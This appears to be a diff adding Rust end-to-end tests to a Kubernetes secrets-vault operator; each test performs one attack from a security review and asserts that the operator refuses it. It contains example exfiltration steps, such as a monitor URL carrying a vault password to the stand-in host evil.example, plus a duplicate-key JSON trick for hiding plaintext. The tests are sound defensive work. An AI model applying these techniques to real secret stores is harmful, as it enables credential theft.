@@ -793,3 +793,336 @@ async fn a_gitops_server_side_apply_keeps_a_valid_stamp_and_shows_no_drift() {
     let refs = stamp::verify(&keys, &third).await.expect("re-stamped");
     assert!(refs.user.ends_with(":deployer"), "{}", refs.user);
 }
+
+// ---------------------------------------------------------------------------------------
+// The attacks of the security review, performed as written; each fails to reach its goal.
+// bob is the partly trusted attacker: `edit` in the namespace and `use` on section
+// `checkout` (group `checkout-team`), nothing on section `payments`.
+
+/// The `payments` section with item `db` (plaintext `password`, sealed by the webhook), and
+/// the admin's monitor `bank` that carries it.
+async fn payments_db(w: &World, password: &str) -> VaultItem {
+    let sections: Api<VaultSection> = w.api();
+    let section = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultSection",
+        "metadata": {"name": "payments"}, "spec": {"description": "e2e"},
+    }))
+    .expect("section");
+    sections
+        .create(&PostParams::default(), &section)
+        .await
+        .expect("create the payments section");
+    let db: VaultItem = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
+        "metadata": {"name": "db"},
+        "spec": {"type": "CredentialSet", "section": "payments",
+                 "allowedHosts": ["bank.example.com"],
+                 "credentialSet": {"username": "payments-bot", "password": password}},
+    }))
+    .expect("db item");
+    let items: Api<VaultItem> = w.api();
+    items
+        .create(&PostParams::default(), &db)
+        .await
+        .expect("create db");
+    let bank: Monitor = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
+        "metadata": {"name": "bank"},
+        "spec": {"url": "https://bank.example.com/", "auth": {"basic": {"credentialSet": "db"}}},
+    }))
+    .expect("bank monitor");
+    w.monitors()
+        .create(&PostParams::default(), &bank)
+        .await
+        .expect("the admin creates the bank monitor");
+    ready_condition(&items, "db", "True").await
+}
+
+#[tokio::test]
+async fn attack_a1_a_sealed_value_copied_into_a_section_bob_may_use_opens_nothing() {
+    let w = World::new("wh-a1").await;
+    let password = fresh("e2e-a1-db-password");
+    let db = payments_db(&w, &password).await;
+    let bob = w.as_user("bob", &["checkout-team"]).await;
+    let bob_items: Api<VaultItem> = Api::namespaced(bob.clone(), &w.ns);
+    let bob_monitors: Api<Monitor> = Api::namespaced(bob.clone(), &w.ns);
+
+    // 1. He reads db's sealed value: sealed values are public by design.
+    let copied = bob_items
+        .get("db")
+        .await
+        .expect("bob may get items")
+        .spec
+        .sealed_value(monivault::api::SecretField::Password)
+        .expect("db is sealed")
+        .to_owned();
+    // 2. He deletes the monitor that uses db (deleting a monitor is not checked) ...
+    bob_monitors
+        .delete("bank", &DeleteParams::default())
+        .await
+        .expect("bob may delete a monitor");
+    // ... but may not delete db, which holds a secret he may not use.
+    let (code, message) = refused(bob_items.delete("db", &DeleteParams::default()).await);
+    assert_eq!(code, 403, "{message}");
+    assert!(message.contains("holds a secret"), "{message}");
+    assert!(message.contains("vaultsections/payments"), "{message}");
+
+    // 3. Someone allowed deletes db; bob recreates it in checkout with the copied value.
+    let items: Api<VaultItem> = w.api();
+    items
+        .delete("db", &DeleteParams::default())
+        .await
+        .expect("the admin deletes db");
+    eventually("db to be gone", || {
+        let items = items.clone();
+        async move { items.get_opt("db").await.ok()?.is_none().then_some(()) }
+    })
+    .await;
+    let recreated: VaultItem = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
+        "metadata": {"name": "db"},
+        "spec": {"type": "CredentialSet", "section": "checkout",
+                 "credentialSet": {"username": "payments-bot", "password": "*****"},
+                 "sealed": {"password": copied}},
+    }))
+    .expect("recreated db");
+    let (code, message) = refused(bob_items.create(&PostParams::default(), &recreated).await);
+    assert_eq!(code, 422, "{message}");
+    assert!(message.contains("does not open"), "{message}");
+    assert!(message.contains("--section checkout"), "{message}");
+
+    // 4. So his monitor to his own host, naming db, has nothing to pass its check through.
+    let steal: Monitor = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
+        "metadata": {"name": "steal"},
+        "spec": {"url": "https://evil.example/?p={{@VaultItem.db.Password}}"},
+    }))
+    .expect("monitor");
+    let (code, message) = refused(bob_monitors.create(&PostParams::default(), &steal).await);
+    assert_eq!(code, 403, "{message}");
+    assert!(message.contains("vault item(s) db"), "{message}");
+
+    // The stamp binds each item's uid: an item replaced under the same name after admission
+    // is not the item that was authorized.
+    let shop = w.monitors().get("shop").await.expect("shop");
+    let refs = stamp::verify(&w.keys().await, &shop)
+        .await
+        .expect("the shop stamp verifies");
+    let login = items.get("shop-login").await.expect("shop-login");
+    assert_eq!(refs.items.get("shop-login"), login.metadata.uid.as_ref());
+    assert_ne!(refs.items.get("shop-login"), db.metadata.uid.as_ref());
+    w.c.assert_not_in_etcd(&[password.as_str()]);
+}
+
+/// What a server-side dry run of `password` over shop-login, as `client`, puts in
+/// `spec.sealed.password`.
+async fn dry_run_guess(w: &World, client: Client, guess: &str) -> String {
+    let items: Api<VaultItem> = Api::namespaced(client, &w.ns);
+    let patch = Patch::Merge(json!({"spec": {"credentialSet": {"password": guess}}}));
+    let answer = items
+        .patch("shop-login", &PatchParams::default().dry_run(), &patch)
+        .await
+        .expect("an editor may update items");
+    answer
+        .spec
+        .sealed_value(monivault::api::SecretField::Password)
+        .expect("sealed")
+        .to_owned()
+}
+
+#[tokio::test]
+async fn attack_a2_mallory_cannot_test_guesses_of_a_password_with_dry_runs() {
+    let w = World::new("wh-a2").await;
+    let items: Api<VaultItem> = w.api();
+    let stored = items
+        .get("shop-login")
+        .await
+        .expect("item")
+        .spec
+        .sealed_value(monivault::api::SecretField::Password)
+        .expect("sealed")
+        .to_owned();
+    let mallory = w.as_user("mallory", &["dev"]).await;
+    let right = dry_run_guess(&w, mallory.clone(), &w.login_password).await;
+    let wrong = dry_run_guess(&w, mallory, "wrong-guess-a2").await;
+    // The right guess and a wrong one answer alike: a fresh seal, never the stored one.
+    assert_ne!(right, stored);
+    assert_ne!(wrong, stored);
+    // alice may use the item: her repeated apply keeps the stored value.
+    let alice = w.as_user("alice", &[]).await;
+    assert_eq!(dry_run_guess(&w, alice, &w.login_password).await, stored);
+    // Nothing was written.
+    let after = items.get("shop-login").await.expect("item");
+    assert_eq!(
+        after
+            .spec
+            .sealed_value(monivault::api::SecretField::Password),
+        Some(stored.as_str())
+    );
+    w.c.assert_not_in_etcd(&[w.login_password.as_str(), "wrong-guess-a2"]);
+}
+
+#[tokio::test]
+async fn attack_a3_a_user_of_an_item_cannot_widen_its_allowed_hosts() {
+    let w = World::new("wh-a3").await;
+    let pp = PatchParams::default();
+    let bob: Api<VaultItem> = Api::namespaced(w.as_user("bob", &["checkout-team"]).await, &w.ns);
+    let widen =
+        Patch::Merge(json!({"spec": {"allowedHosts": ["shop.example.com", "evil.example"]}}));
+    let (code, message) = refused(bob.patch("shop-login", &pp, &widen).await);
+    assert_eq!(code, 403, "{message}");
+    assert!(message.contains("evil.example"), "{message}");
+    assert!(message.contains("\"allowhosts\""), "{message}");
+    // An item of his own with hosts is widening from nothing.
+    let own: VaultItem = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
+        "metadata": {"name": "bobs-token"},
+        "spec": {"type": "Secret", "section": "checkout", "allowedHosts": ["evil.example"],
+                 "secret": {"value": fresh("e2e-a3-token")}},
+    }))
+    .expect("item");
+    let (code, message) = refused(bob.create(&PostParams::default(), &own).await);
+    assert_eq!(code, 403, "{message}");
+    // Narrowing needs nothing extra.
+    let narrow = Patch::Merge(json!({"spec": {"allowedHosts": []}}));
+    bob.patch("shop-api-token", &pp, &narrow)
+        .await
+        .expect("bob may narrow");
+    // The deploy pipeline holds allowhosts on the section.
+    let deployer: Api<VaultItem> = Api::namespaced(w.as_service_account("deployer").await, &w.ns);
+    let widen =
+        Patch::Merge(json!({"spec": {"allowedHosts": ["shop.example.com", "api.example.com"]}}));
+    deployer
+        .patch("shop-api-token", &pp, &widen)
+        .await
+        .expect("the deployer may widen");
+    let login = w.api::<VaultItem>().get("shop-login").await.expect("item");
+    assert_eq!(login.spec.allowed_hosts, ["shop.example.com"]);
+}
+
+#[tokio::test]
+async fn attack_a4_a_monitor_being_deleted_and_an_unfinished_run_keep_their_item() {
+    let w = World::new("wh-a4").await;
+    let items: Api<VaultItem> = w.api();
+    let spare: VaultItem = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
+        "metadata": {"name": "spare"},
+        "spec": {"type": "Secret", "section": "checkout", "allowedHosts": ["shop.example.com"],
+                 "secret": {"value": fresh("e2e-a4-spare")}},
+    }))
+    .expect("item");
+    items
+        .create(&PostParams::default(), &spare)
+        .await
+        .expect("create spare");
+    let held: Monitor = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "Monitor",
+        "metadata": {"name": "held", "finalizers": ["e2e.monivault.io/hold"]},
+        "spec": {"url": "https://shop.example.com/", "auth": {"bearer": {"secret": "spare"}}},
+    }))
+    .expect("monitor");
+    let monitors = w.monitors();
+    monitors
+        .create(&PostParams::default(), &held)
+        .await
+        .expect("create held");
+    monitors
+        .delete("held", &DeleteParams::default())
+        .await
+        .expect("delete held");
+    assert!(monitors.get("held").await.is_ok(), "a finalizer holds it");
+    let (code, message) = refused(items.delete("spare", &DeleteParams::default()).await);
+    assert_eq!(code, 409, "{message}");
+    assert!(message.contains("Monitor(s) held"), "{message}");
+    monitors
+        .patch(
+            "held",
+            &PatchParams::default(),
+            &Patch::Merge(json!({"metadata": {"finalizers": null}})),
+        )
+        .await
+        .expect("release held");
+
+    // A Test Now of an inline spec that has not finished.
+    let runs: Api<MonitorRun> = w.api();
+    let run: MonitorRun = serde_json::from_value(json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "MonitorRun",
+        "metadata": {"name": "try-spare"},
+        "spec": {"monitor": {"url": "https://shop.example.com/",
+                             "auth": {"bearer": {"secret": "spare"}}}},
+    }))
+    .expect("run");
+    runs.create(&PostParams::default(), &run)
+        .await
+        .expect("create the run");
+    let (code, message) = refused(items.delete("spare", &DeleteParams::default()).await);
+    assert_eq!(code, 409, "{message}");
+    assert!(message.contains("MonitorRun(s) try-spare"), "{message}");
+}
+
+#[tokio::test]
+async fn attack_a5_a_plaintext_hidden_in_last_applied_never_reaches_etcd() {
+    let w = World::new("wh-a5").await;
+    let started = std::time::SystemTime::now();
+    let hidden = fresh("e2e-a5-duplicate");
+    let sealed_one = fresh("e2e-a5-spec");
+    // A client that writes the annotation with a duplicate key: the parsed value looks
+    // masked, the raw text keeps the plaintext. `kubectl create --raw` sends bytes as they are.
+    let annotation = format!(
+        r#"{{"apiVersion":"monivault.io/v1alpha1","kind":"VaultItem","metadata":{{"name":"dup","namespace":"{ns}"}},"spec":{{"type":"Secret","section":"checkout","secret":{{"value":"{hidden}","value":"*****"}}}}}}"#,
+        ns = w.ns
+    );
+    let body = json!({
+        "apiVersion": "monivault.io/v1alpha1", "kind": "VaultItem",
+        "metadata": {"name": "dup", "annotations": {
+            "kubectl.kubernetes.io/last-applied-configuration": annotation}},
+        "spec": {"type": "Secret", "section": "checkout", "secret": {"value": sealed_one}},
+    });
+    let out = w.c.kubectl_stdin(
+        &[
+            "create",
+            "--raw",
+            &format!("/apis/monivault.io/v1alpha1/namespaces/{}/vaultitems", w.ns),
+            "-f",
+            "-",
+        ],
+        &body.to_string(),
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+
+    // A mistyped field, applied with field validation off: pruned from spec, kept in the
+    // annotation by a client-side apply.
+    let mistyped = fresh("e2e-a5-mistyped");
+    let manifest = format!(
+        "apiVersion: monivault.io/v1alpha1\nkind: VaultItem\nmetadata:\n  name: typo\nspec:\n  type: CredentialSet\n  section: checkout\n  credentialSet:\n    username: bot\n    password: {sealed_one}x\n    Password: {mistyped}\n"
+    );
+    let out = w.c.kubectl_stdin(
+        &["apply", "-n", &w.ns, "--validate=false", "-f", "-"],
+        &manifest,
+    );
+    assert!(out.status.success(), "{}", stderr(&out));
+    assert!(
+        stderr(&out).contains("replaced") || stdout(&out).contains("created"),
+        "{}",
+        stderr(&out)
+    );
+
+    let items: Api<VaultItem> = w.api();
+    for name in ["dup", "typo"] {
+        let item = items.get(name).await.expect("stored");
+        let text = serde_json::to_string(&item).expect("json");
+        assert!(
+            !text.contains(&hidden) && !text.contains(&mistyped),
+            "{text}"
+        );
+    }
+    let plaintexts = [hidden.as_str(), mistyped.as_str(), sealed_one.as_str()];
+    w.c.assert_not_in_etcd(&plaintexts);
+    let audit = w.c.audit_log_since(started);
+    for plaintext in plaintexts {
+        assert!(
+            !audit.contains(plaintext),
+            "a plaintext is in the audit log"
+        );
+    }
+}
